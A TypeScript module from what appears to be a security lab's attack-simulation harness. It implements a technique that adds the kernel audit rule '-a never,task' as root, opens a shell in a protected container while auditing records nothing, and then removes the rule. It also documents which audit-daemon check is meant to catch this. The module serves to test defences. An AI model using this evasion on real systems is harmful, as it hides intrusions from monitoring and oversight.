/**
 * Attack (T1562.012 Impair Defenses: Disable or Modify Linux Audit System,
 * then T1609 and T1059.004 a shell in the container): root on the node adds
 * one kernel audit rule of its own, `-a never,task`, which gives every task
 * forked from then on no audit context, then opens a shell in a running
 * protected container, and removes the rule. Auditing stays on and every
 * rule of the audit layer stays listed, unchanged: the kernel records
 * nothing about the new processes because a `never` rule came first.
 *
 * The rule is added in the node's initial PID namespace, where root on a
 * real node is and where the kernel takes audit netlink requests
 * (lab/node/init-pid-namespace.ts). The rule lists are host-wide, so the
 * scenarios of this attack run alone (the `@host-audit` tag,
 * steps/support/hooks.ts). The rule is removed whatever the outcome, unless
 * a defence removed it first.
 *
 * What must catch it: the audit daemon. The kernel writes a CONFIG_CHANGE
 * record (`op=add_rule`) for the new rule; the daemon reads the rule lists
 * then and takes a `never` rule, or any rule of the exclude list, for what
 * it is: records suppressed. It raises an alert naming the lab's running
 * containers and removes the rule (lab/audit/node/daemon.ts, "Kernel
 * auditing silenced").
 */
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { rootAuditctl, shellWhileAuditSilenced } from './audit-kernel-disable.ts';

/** The rule as auditctl takes it after -a or -d, and as `auditctl -l` lists it after -a. */
const NEVER_TASK = 'never,task';

const listed = async (node: LabNodeHandle) => (await rootAuditctl(node, ['-l'])).split('\n').some((l) => l.trim() === `-a ${NEVER_TASK}`);

export const auditNeverRule: Technique = {
  name: 'audit-never-rule',
  async run(ctx) {
    let removedByDefence = false;
    const result = await shellWhileAuditSilenced(
      ctx,
      `added the kernel audit rule "-a ${NEVER_TASK}" (no audit context for any new task)`,
      async (node) => {
        await rootAuditctl(node, ['-a', NEVER_TASK]);
        return { ruleAdded: `-a ${NEVER_TASK}` };
      },
      async (node) => {
        if (await listed(node)) await rootAuditctl(node, ['-d', NEVER_TASK]);
        else removedByDefence = true;
      },
    );
    result.evidence.ruleGoneBeforeCleanup = removedByDefence;
    return result;
  },
};
